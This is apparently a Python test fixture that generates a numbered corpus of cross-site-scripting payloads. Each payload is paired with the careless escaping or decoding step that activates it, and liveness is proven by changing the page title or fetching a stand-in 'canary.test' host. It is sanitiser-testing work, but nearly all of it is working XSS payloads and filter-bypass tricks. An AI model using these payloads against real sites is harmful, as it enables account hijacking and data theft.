"""Hostile texts, and for each the careless treatment that makes it live.

A payload proves itself live by a canary: it changes the title of its page (or of the page
around it), or it fetches an address of the host CANARY that ends in the payload's number.
"""

from __future__ import annotations

import base64
import html
import json
import unicodedata
from collections.abc import Callable
from typing import NamedTuple
from urllib.parse import unquote

CANARY = "canary.test"
LIVE = "/LIVE/"  # what the title becomes: a pattern needs no quotation marks
J = f"document.title={LIVE}"
PJ = f"parent.{J}"
U = f"http://{CANARY}/NUM"  # NUM becomes the number of the payload
IMG = f"<img src=x onerror={J}>"
_INVISIBLE = dict.fromkeys([0, 0xAD, 0x200B, 0x200C, 0x200D, 0x2060, 0x202E, 0xFEFF, 0xE0001])


class Payload(NamedTuple):
    """A hostile text; ``treated`` names the treatment in ``CARELESS`` that makes it live."""

    number: int
    text: str
    treated: str


def _reparsed(text: str) -> str:
    """Return a page that parses a text where scripts are off, and writes it back."""
    raw = json.dumps(text).replace("<", "\\u003c")
    parser = "new DOMParser().parseFromString(document.body.innerHTML,'text/html')"
    again = f"document.body.innerHTML={parser}.body.innerHTML;"
    first = again.replace("document.body.innerHTML,", f"{raw},")
    return f"<body></body><script>{first}{again}</script>"


def _in_svg(text: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg"><text y="20">{text}</text></svg>'


# What careless code does with a text before, or instead of, escaping it.
CARELESS: dict[str, Callable[[str], str]] = {
    "text": lambda text: f"<p>{text}</p>",
    "mark": lambda text: f"<p><mark>{text}</mark></p>",
    "double quotes": lambda text: f'<p title="{text}">x</p>',
    "single quotes": lambda text: f"<p title='{text}'>x</p>",
    "no quotes": lambda text: f"<p title={text}>x</p>",
    "link": lambda text: f'<a href="{text}">x</a>',
    "style attribute": lambda text: f'<p style="{text}">x</p>',
    "style": lambda text: f"<style>p{{{text}</style><p>x</p>",
    "title": lambda text: f"<title>{text}</title>",
    "textarea": lambda text: f"<textarea>{text}</textarea>",
    "select": lambda text: f"<select><option>{text}</option></select>",
    "comment": lambda text: f"<!--{text}-->",
    "script string": lambda text: f"<script>var a='{text}'</script>",
    "script template": lambda text: f"<script>var a=`{text}`</script>",
    "script line comment": lambda text: f"<script>// {text}\n</script>",
    "script block comment": lambda text: f"<script>/* {text} */</script>",
    "svg file": _in_svg,
    "written back": _reparsed,
    "tags dropped": lambda text: text.replace("<script>", "").replace("</script>", ""),
    "invisible dropped": lambda text: text.translate(_INVISIBLE),
    "unescaped": html.unescape,
    "unescaped twice": lambda text: html.unescape(html.unescape(text)),
    "unescaped in quotes": lambda text: f'<p title="{html.unescape(text)}">x</p>',
    "unquoted": unquote,
    "backslashes read": lambda text: text.encode().decode("unicode_escape"),
    "utf-7": lambda text: text.encode().decode("utf-7"),
    "nfkc": lambda text: unicodedata.normalize("NFKC", text),
    "nfkc in quotes": lambda text: f'<p title="{unicodedata.normalize("NFKC", text)}">x</p>',
    "upper case": str.upper,
    "lower case": str.lower,
}
# Live only in other programs, or in libraries that no test can load: never fires in the control.
ELSEWHERE = "elsewhere"

_BY_TREATMENT: dict[str, list[str]] = {
    "text": [
        # scripts
        f"<script>{J}</script>",
        f"<SCRIPT SRC={U}></SCRIPT>",
        f"<script\n>{J}</script\t>",
        f"<script/x>{J}</script/x>",
        f"<script type=module>{J}</script>",
        f"<svg><script>{J}</script></svg>",
        f"<svg><script href={U}></script></svg>",
        # handlers, without any click
        IMG,
        f'<img/src="x"/onerror={J}>',
        f"<IMG SRC=x OnErRoR={J}>",
        f"<img src=x onerror={J} <",
        f"<img\fsrc=x\fonerror={J}>",
        f"<img src=x onerror=&#100;ocument.title={LIVE}>",
        f"<body onload={J}>",
        f"<svg onload={J}>",
        f"<svg><animate onbegin={J} attributeName=x dur=1s>",
        f"<video><source src=x onerror={J}></video>",
        f"<audio src=x onerror={J}>",
        f"<details open ontoggle={J}>x</details>",
        f"<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart={J}>x</b>",
        f"<div><template shadowrootmode=open>{IMG}</template></div>",
        # handlers that wait for a reader
        f"<b onclick={J}>x</b>",
        f"<b\nonmouseover\n=\n{J}\n>x</b>",
        f"<p/onclick={J}//x>",
        f"<input autofocus onfocus={J}>",
        f"<x-y tabindex=1 onpointerover={J}>x</x-y>",
        f"<form action=javascript:{J}><button>go</button></form>",
        f"<form><button formaction=javascript:{J}>go</button></form>",
        f"<form action={U}><button>go</button></form>",
        # addresses that run or load
        f"<a href=javascript:{J}>go</a>",
        f"<a href='java&Tab;script&colon;{J}'>go</a>",
        f"<a href=&#106;avascript:{J}>go</a>",
        f"<a href=\x01javascript:{J}>go</a>",
        f"<svg><a xlink:href=javascript:{J}><text y=20>go</text></a></svg>",
        f"<iframe src=javascript:{PJ}></iframe>",
        f"<iframe srcdoc='<script>{PJ}</script>'></iframe>",
        f"<iframe srcdoc=&lt;script&gt;{PJ}&lt;/script&gt;></iframe>",
        f"<iframe src={U}></iframe>",
        f"<iframe src='data:text/html,<img src={U}>'></iframe>",
        f"<object data={U}></object>",
        f"<embed src={U}>",
        f"<img src={U}>",
        f"<img srcset='{U} 1x'>",
        f"<picture><source srcset={U}><img></picture>",
        f"<video poster={U}></video>",
        f"<input type=image src={U}>",
        f"<svg><image href={U} width=9 height=9></svg>",
        f"<base href={U}/><img src=y>",
        f"<meta http-equiv=refresh content='0;url={U}'>",
        f"<link rel=stylesheet href={U}>",
        f"<link rel=preload as=image href={U}>",
        f"<style>@import url({U});</style>",
        f"<style>*{{background:url({U})}}</style>",
        f"<svg><style>*{{background:url({U})}}</style></svg>",
        f"<p style='background:url({U})'>x</p>",
        f"<p style='background:\\75rl({U})'>x</p>",
        # comments, sections and tags that end where one does not look
        f"<!-->{IMG}-->",
        f"<!--x--!>{IMG}",
        f"<!x>{IMG}",
        f"<?xml version='1.0'?>{IMG}",
        f"</ x>{IMG}",
        f"<![CDATA[>{IMG}]]>",
        f"<noscript><p title='</noscript>{IMG}'>",
        f"<xmp><p title='</xmp>{IMG}'></xmp>",
        f"<textarea><p title='</textarea>{IMG}'>",
        f"<title><a id='</title>{IMG}'>",
        f"<table><tr>{IMG}</table>",
        f"<table><td>x</table><td>{IMG}",
        f"<select><option></select>{IMG}",
        f"<math><mtext>{IMG}</mtext></math>",
        f"<math><annotation-xml encoding=text/html>{IMG}</annotation-xml></math>",
        f"<svg><foreignObject>{IMG}</foreignObject></svg>",
        f"<svg></p><style><a id='</style>{IMG}'>",
        f"</main></body></html>{IMG}",
        # among other dangers
        f"\u202e{IMG}\u202c",
        f"one\x85two\u2028three\u2029{IMG}",
        f"one\rtwo\x0bthree\x0cfour{IMG}",
        f"\x1b[31m{IMG}\x1b[0m\x07",
        f"= 1+1;{IMG}\u200f \u2067{IMG}",
        f"```html\n{IMG}\n```",
        f"AT&T &copy &amp; &bogus; &#xD800; &#0; {IMG}",
        # very long
        "<" * 1000 + f" {IMG}",
        "<img " + "a=b " * 500 + f"src=x onerror={J}>",
        "<b>" * 520 + IMG,
    ],
    "mark": [f"</mark>{IMG}<mark>", f"</mark></p></div>{IMG}"],
    "double quotes": [
        f'" onmouseover="{J}',
        f'"><script>{J}</script>',
        f'"/onmouseover={J}//',
        f'" autofocus tabindex=1 onfocus={J} x="',
        f'" style="background:url({U})',
        '"' * 800 + f">{IMG}",
        f'https://page.test/"onmouseover="{J}',
        f'http://page.test"onmouseover={J}//',
    ],
    "single quotes": [f"' onmouseover='{J}", f"'>{IMG}", f"'\nonclick={J}\n'"],
    "no quotes": [
        f"x onmouseover={J}",
        f"x\tonmouseover={J}",
        f"x\fonmouseover={J}",
        f"` onmouseover={J} `",
        f"x>{IMG}",
    ],
    "link": [
        f"javascript:{J}",
        f"JaVaScRiPt:{J}",
        f" \u2003javascript:{J}".replace("\u2003", " "),
        f"\x01javascript:{J}",
        f"java\tscript:{J}",
        f"java\nscript:{J}",
        f"javascript://page.test/%0a{J}",
        f"javascript:{J}//https://page.test/",
        f"&#x6a;avascript&colon;{J}",
        f"data:text/html,<img src={U}>",
        "data:text/html;base64,BASE64",
        f"//{CANARY}/NUM",
        f"\\\\{CANARY}/NUM",
    ],
    "style attribute": [f"color:red;background:url({U})", f'" onclick="{J}'],
    "style": [f"}}*{{background:url({U})}}", f"</style>{IMG}", f"background:url('{U}')}}"],
    "title": [f"</title>{IMG}", f"</mark></style></textarea></script></title>{IMG}"],
    "textarea": [f"</textarea>{IMG}", f"</TEXTAREA\n>{IMG}"],
    "select": [f"</option></select>{IMG}"],
    "comment": [f"-->{IMG}<!--", f"--!>{IMG}", f">{IMG}", f"->{IMG}"],
    "script string": [f"';{J};'", f"</script>{IMG}", f"'-({J})-'"],
    "script template": [f"${{{J}}}", f"`;{J};`"],
    "script line comment": [f"\u2028{J}//", f"\u2029{J}//"],
    "script block comment": [f"*/{J}/*"],
    "svg file": [
        f"<script>{J}</script>",
        f'</text><x:img xmlns:x="http://www.w3.org/1999/xhtml" src="x" onerror="{J}"/><text>',
        f'</text><image href="{U}" width="9" height="9"/><text>',
        f'</text><set attributeName="x" onbegin="{J}" dur="1s"/><text>',
        f"]]&gt;</text><script>{J}</script><text>",
    ],
    "written back": [
        f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
        f"<svg><p><style><g title='</style>{IMG}'>",
        f"<listing>\n\n{IMG}</listing>",
    ],
    "tags dropped": [f"<scr<script>ipt>{J}</scr</script>ipt>"],
    "invisible dropped": [
        f"<scr\x00ipt>{J}</scr\x00ipt>",
        f"<\x00img src=x onerror={J}>",
        f"<\u200bimg src=x onerror={J}>",
        f"<i\u200dmg src=x onerror={J}>",
        f"<\ufeffimg src=x onerror={J}>",
        f"<i\xadmg src=x onerror={J}>",
        f"<\u202eimg src=x onerror={J}>",
        f"<\U000e0001img src=x onerror={J}>",
    ],
    "unescaped": [
        html.escape(IMG),
        f"&#60;img src=x onerror={J}&#62;",
        f"&#x3C;script&#x3E;{J}&#x3c;/script&#x3e;",
        f"&ltimg src=x onerror={J}&gt",
        f"&#0000060img src=x onerror={J}&#0000062",
    ],
    "unescaped twice": [html.escape(html.escape(IMG)), f"&amp;#60;img src=x onerror={J}&amp;#62;"],
    "unescaped in quotes": [f"&quot; onmouseover=&quot;{J}", f"&#34;&#62;{IMG}"],
    "unquoted": [f"%3Cimg%20src%3Dx%20onerror%3D{J}%3E"],
    "backslashes read": [
        f"\\u003cimg src=x onerror={J}\\u003e",
        f"\\x3cimg src=x onerror={J}\\x3e",
    ],
    "utf-7": [f"+ADw-img src=x onerror={J}+AD4-"],
    "nfkc": [f"＜img src=x onerror={J}＞", f"﹤script﹥{J}﹤/script﹥"],
    "nfkc in quotes": [f"＂ onmouseover=＂{J}", f"＂＞{IMG}"],
    "upper case": [f"<ſcript src={U}></ſcript>", f"<ıframe src={U}></ıframe>"],
    "lower case": [f"<lin\u212a rel=stylesheet href={U}>"],
    ELSEWHERE: [
        # other browsers, other readers of pages
        f"<p style='width:expression({J})'>x</p>",
        f"<x style='behavior:url({U})'>x</x>",
        f"vbscript:{J}",
        f"<!--[if gte IE 4]>{IMG}<![endif]-->",
        f"<?xml-stylesheet href='{U}'?>",
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{U}">]>&e;',
        f"<img\u2028src=x\u2028onerror={J}>",
        f"‹img src=x onerror={J}›",
        f'<noscript><p title="</noscript>{IMG}">',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{html.escape(IMG)}">',
        "<plaintext>",
        "<textarea><select><noscript><template><xmp><title><style><script><!--",
        # languages of templates
        f"{{{{constructor.constructor('{J}')()}}}}",
        f"<%= {J} %> #{{{J}}} @{{{J}}} [[{J}]]",
        "{0} {} {self.__class__} {article.headline} {!r:>9999}",
        "%s %d %(headline)s %n %9999999d",
        "$headline ${headline} $(id) `id`",
        # mathematics and markdown, typeset by notebooks
        "$\\foo$ and $x_{ $",
        f"\\(\\href{{javascript:{J}}}{{go}}\\)",
        f"$$\\style{{background:url({U})}}{{x}}$$",
        "\\[\\unicode{x3c}b\\unicode{x3e}\\] \\begin{align}x\\end{align}",
        "from $5 million to $10 million",
        f"[go](javascript:{J}) ![x]({U}) <javascript:{J}>",
        "javascript\\:x \\74 script\\76 \\<b\\>",
        "&" * 800,
    ],
}


def _number(text: str, number: int) -> str:
    code = base64.b64encode(f"<img src={U}>".replace("NUM", str(number)).encode()).decode()
    return text.replace("BASE64", code).replace("NUM", str(number))


PAYLOADS = [
    Payload(number, _number(text, number), treated)
    for number, (treated, text) in enumerate(
        (treated, text) for treated, texts in _BY_TREATMENT.items() for text in texts
    )
]
